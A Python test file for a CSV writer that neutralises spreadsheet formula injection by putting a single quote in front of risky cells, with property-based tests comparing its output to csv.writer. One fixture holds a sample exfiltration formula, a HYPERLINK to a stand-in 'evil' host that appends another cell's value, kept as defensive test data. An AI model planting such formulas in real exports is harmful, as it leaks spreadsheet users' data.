"""The one CSV writer: formula-safe for every cell, otherwise exactly what ``csv.writer`` writes."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from listguard.csvio import (
    DELIMITERS,
    FORMULA_STARTS,
    CsvWriter,
    join_rows,
    neutralise,
    safe_column,
    write_csv,
)

# Text with the characters that start formulas or need quoting, mixed with ordinary ones.
cells = st.text(alphabet=st.sampled_from('ab@.,;|"\r\n é\t=+-'), max_size=10)
delimiters = st.sampled_from(DELIMITERS)


def written_by_csv_module(rows: list[list[str]], delimiter: str) -> str:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


def read_back(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1@example.com", "'=1+1@example.com"),
        ('=HYPERLINK("http://evil/?x="&A2,"x")', '"\'=HYPERLINK(""http://evil/?x=""&A2,""x"")"'),
        ("+33 1 23", "'+33 1 23"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", '"\'\rcmd"'),
        ("ann@example.com", "ann@example.com"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_cells_get_a_single_quote_in_front(cell: str, written: str) -> None:
    # Given a cell that a spreadsheet would run as a formula (or an ordinary one)
    out = io.StringIO(newline="")
    # When it is written, in any column
    CsvWriter(out, ["a", "b"]).write_row(["x", cell])
    # Then a formula is neutralised by a leading quote (and quoted as csv.writer would); others are as is
    assert out.getvalue() == f"a,b\r\nx,{written}\r\n"


@given(st.lists(st.lists(cells, max_size=5), max_size=8), delimiters)
def test_writer_is_csv_writer_over_neutralised_cells(rows: list[list[str]], delimiter: str) -> None:
    # Given rows of any number of cells, any delimiter
    out = io.StringIO(newline="")
    # When the writer writes them
    write_csv(out, ["h1", "=h2"], rows, delimiter=delimiter)
    # Then the text is csv.writer's over the neutralised cells, and no cell read back starts a formula
    expected = [["h1", "'=h2"], *([neutralise(cell) for cell in row] for row in rows)]
    assert out.getvalue() == written_by_csv_module(expected, delimiter)
    for row in read_back(out.getvalue(), delimiter):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row)


def test_writer_takes_cells_of_any_type() -> None:
    # Given cells that are not text
    out = io.StringIO(newline="")
    # When they are written / Then as csv.writer writes them (None empty), and a negative number is guarded
    write_csv(out, ["n", "x", "y", "z"], [[1, None, 2.5, -3]])
    assert out.getvalue() == "n,x,y,z\r\n1,,2.5,'-3\r\n"


def test_writer_refuses_an_unknown_delimiter() -> None:
    with pytest.raises(ValueError, match="delimiter"):
        CsvWriter(io.StringIO(), ["a"], delimiter=":")


@given(st.lists(st.tuples(cells, cells), max_size=40), delimiters, st.booleans())
def test_fast_columns_equal_the_writer(pairs: list[tuple[str, str]], delimiter: str, repeats: bool) -> None:
    # Given two columns of any text (sparse or dense, formulas, quotes, line breaks)
    first = [a for a, _ in pairs]
    second = ["" if len(b) % 3 else b for _, b in pairs]  # mostly empty, like reasons
    # When the fast path writes them
    text = join_rows(
        [
            safe_column(first, delimiter=delimiter, repeats=repeats),
            safe_column(second, delimiter=delimiter, repeats=repeats),
        ],
        delimiter=delimiter,
    )
    # Then the text is the general writer's, byte for byte
    out = io.StringIO(newline="")
    CsvWriter(out, ["a", "b"], delimiter=delimiter).write_rows(zip(first, second, strict=True))
    assert "a,b\r\n".replace(",", delimiter) + text == out.getvalue()


def test_clean_column_is_returned_as_it_is() -> None:
    # Given a column where no cell needs quotes or a guard
    values = ["ann@example.com", "bob@example.com", ""]
    # When the fast path looks at it / Then it costs no copy
    assert safe_column(values) is values
